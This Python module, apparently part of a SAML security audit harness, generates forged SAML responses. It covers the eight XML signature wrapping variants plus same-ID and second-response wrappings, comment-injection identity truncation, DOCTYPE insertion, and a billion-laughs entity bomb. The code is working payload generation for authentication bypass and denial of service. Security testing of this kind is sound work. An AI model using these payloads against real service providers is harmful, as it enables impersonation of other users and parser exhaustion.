"""What can be done to a signed SAML response: signature wrapping as in Somorovsky and others, "On Breaking SAML" (USENIX
Security 2012), comments, document types and entities. Text in, text out: nothing is signed again."""

import re
from collections.abc import Callable

VICTIM, EVIL = "manager_mary@example.com", "manager_mark@example.com"


def part(xml: str, name: str) -> str:
    """The first element of this local name, as it is written."""
    found = re.search(rf"<(\w+:{name})[\s>].*?</\1>", xml, re.DOTALL)
    assert found, name
    return found[0]


def assertion_of(xml: str) -> str:
    return part(xml, "Assertion")


def signature_of(element: str) -> str:
    return part(element, "Signature")


def forged(assertion: str) -> str:
    """The assertion with another name, another ID and no signature."""
    bare = assertion.replace(signature_of(assertion), "")
    return re.sub(r'(<\w+:Assertion [^>]*?ID=")[^"]*', r"\g<1>_forged", bare.replace(VICTIM, EVIL), count=1)


def after_issuer(element: str, inner: str) -> str:
    """The element with something after its own issuer, where a signature belongs."""
    end = re.search(r"</\w+:Issuer>", element).end()
    return element[:end] + inner + element[end:]


def within(signature: str, inner: str) -> str:
    """The signature with something at its end."""
    return re.sub(r"(</\w+:Signature>)$", lambda end: inner + end[1], signature)


def with_object(signature: str, inner: str) -> str:
    """The signature with an object that holds something."""
    prefix = re.match(r"<(\w+):", signature)[1]
    return within(signature, f"<{prefix}:Object>{inner}</{prefix}:Object>")


def evil_response(xml: str) -> tuple[str, str, str]:
    """A forged response, the signature of the genuine one, and the genuine one without it."""
    signature = signature_of(xml)
    bare = xml.replace(signature, "", 1)
    body = re.sub(r"^<\?xml.*?\?>\s*", "", bare)
    evil = re.sub(r'ID="[^"]*"', 'ID="_evil"', body.replace(VICTIM, EVIL), count=1)
    genuine = assertion_of(evil)
    return evil.replace(genuine, forged(genuine)), signature, body


def xsw1(xml: str) -> str:
    evil, signature, body = evil_response(xml)
    return after_issuer(evil, with_object(signature, body))


def xsw2(xml: str) -> str:
    evil, signature, body = evil_response(xml)
    return after_issuer(evil, body + signature)


def swap(xml: str, make: Callable[[str, str, str], str]) -> str:
    """The response with its assertion replaced by what is made of the forged one, the genuine one, and its signature."""
    genuine = assertion_of(xml)
    return xml.replace(genuine, make(forged(genuine), genuine, signature_of(genuine)))


def xsw3(xml: str) -> str:
    return swap(xml, lambda evil, genuine, signature: evil + genuine)


def xsw4(xml: str) -> str:
    return swap(xml, lambda evil, genuine, signature: re.sub(r"(</\w+:Assertion>)$", lambda end: genuine + end[1], evil))


def xsw5(xml: str) -> str:
    return swap(xml, lambda evil, genuine, signature: after_issuer(evil, signature) + genuine.replace(signature, ""))


def xsw6(xml: str) -> str:
    return swap(xml, lambda evil, genuine, signature: after_issuer(evil, within(signature, genuine.replace(signature, ""))))


def xsw7(xml: str) -> str:
    prefix = re.search(r"<(\w+):Response", xml)[1]
    return swap(xml, lambda evil, genuine, signature: f"<{prefix}:Extensions>{genuine}</{prefix}:Extensions>{evil}")


def xsw8(xml: str) -> str:
    return swap(xml, lambda evil, genuine, signature: after_issuer(evil, with_object(signature, genuine.replace(signature, ""))))


def same_id(xml: str) -> str:
    """The forged one under the ID of the genuine one, which hides in an attribute's value."""
    identifier = re.search(r'<\w+:Assertion [^>]*?ID="([^"]*)', xml)[1]
    return swap(xml, lambda evil, genuine, signature: evil.replace("_forged", identifier) + genuine)


def second_response(xml: str) -> str:
    inner = re.sub(r"^<\?xml.*?\?>\s*", "", xml)
    return re.sub(r"(</\w+:Response>)\s*$", lambda end: inner + end[1], swap(xml, lambda evil, genuine, signature: evil))


# Name, what is done, what the identity provider signed, and the reason in the audit.
WRAPPINGS = [
    ("XSW1", xsw1, ("assertion", "response"), "assertions"),
    ("XSW2", xsw2, ("assertion", "response"), "assertions"),
    ("XSW3", xsw3, ("assertion",), "assertions"),
    ("XSW4", xsw4, ("assertion",), "assertions"),
    ("XSW5", xsw5, ("assertion",), "assertions"),
    ("XSW6", xsw6, ("assertion",), "assertions"),
    ("XSW7", xsw7, ("assertion",), "assertions"),
    ("XSW8", xsw8, ("assertion",), "assertions"),
    ("XSW with the same ID", same_id, ("assertion",), "assertions"),
    ("XSW with a second response", second_response, ("assertion",), "assertions"),
]


def comment(xml: str) -> str:
    """The name ends at the comment for who reads the first text only; the signature does not see it."""
    return xml.replace(f"{VICTIM}.evil.example", f"{VICTIM}<!-- -->.evil.example")


def doctype(xml: str) -> str:
    return "<!DOCTYPE Response>" + re.sub(r"^<\?xml.*?\?>\s*", "", xml)


def entities(xml: str) -> str:
    """Ten to the ninth letters, if somebody expands them."""
    steps = "".join(f'<!ENTITY a{step} "{f"&a{step - 1};" * 10}">' for step in range(1, 10))
    body = re.sub(r"^<\?xml.*?\?>\s*", "", xml).replace(VICTIM, "&a9;", 1)
    return f'<!DOCTYPE Response [<!ENTITY a0 "x">{steps}]>{body}'
